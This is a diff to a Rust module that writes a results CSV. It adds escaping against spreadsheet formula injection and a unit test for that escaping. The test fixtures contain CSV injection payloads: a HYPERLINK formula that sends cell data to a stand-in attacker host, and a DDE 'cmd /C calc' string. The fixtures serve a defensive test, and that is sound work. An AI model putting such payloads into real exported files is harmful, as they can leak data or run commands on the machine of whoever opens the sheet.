@@ -1,5 +1,7 @@
 //! The result CSV of a project: one row per task with its line in the project file,
 //! both accounts, the task ID, the final state and the counters. Holds no secret.
+//! A cell a spreadsheet would take for a formula (it starts with `=`, `+`, `-`, `@`, a
+//! tab or a carriage return: a login or a server's error text can) gets a leading `'`.
 
 /// One task's outcome, as the result CSV shows it.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
@@ -64,9 +66,18 @@ fn push_record(out: &mut String, cells: impl IntoIterator<Item = String>) {
         if i > 0 {
             out.push(',');
         }
-        push_cell(out, &cell);
+        push_cell(out, &neutralise(cell));
     }
     out.push('\n');
+}
+
+/// `'` before a cell a spreadsheet would evaluate (formula injection, CWE-1236).
+fn neutralise(cell: String) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}")
+    } else {
+        cell
+    }
 }
 
 fn push_cell(out: &mut String, cell: &str) {
@@ -116,6 +127,37 @@ mod tests {
         );
         assert!(out.ends_with('\n'));
         assert_eq!(results_csv(&[]).lines().count(), 1);
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_evaluate_are_neutralised() {
+        let mut r = row("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
+        r.source = "+1-555@old.example:993".into();
+        r.destination = "@SUM(1+1)*cmd|' /C calc'!A0@new.example:993".into();
+        let mut t = row("-2+3");
+        t.source = "\tx@old.example:993".into();
+        t.destination = "\rx@new.example:993".into();
+        let out = results_csv(&[r, t]);
+        let mut reader = ::csv::Reader::from_reader(out.as_bytes());
+        let records: Vec<::csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        for rec in &records {
+            for cell in rec.iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{cell:?} in {out}"
+                );
+            }
+        }
+        assert_eq!(
+            &records[0][9],
+            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+        );
+        assert_eq!(&records[0][1], "'+1-555@old.example:993");
+        assert_eq!(&records[1][9], "'-2+3");
+        assert_eq!(&records[1][1], "'\tx@old.example:993");
+        // Ordinary cells are untouched.
+        assert_eq!(&records[0][3], "MS-ABCDEFGHJK");
+        assert_eq!(&records[0][0], "7");
     }
 
     #[test]
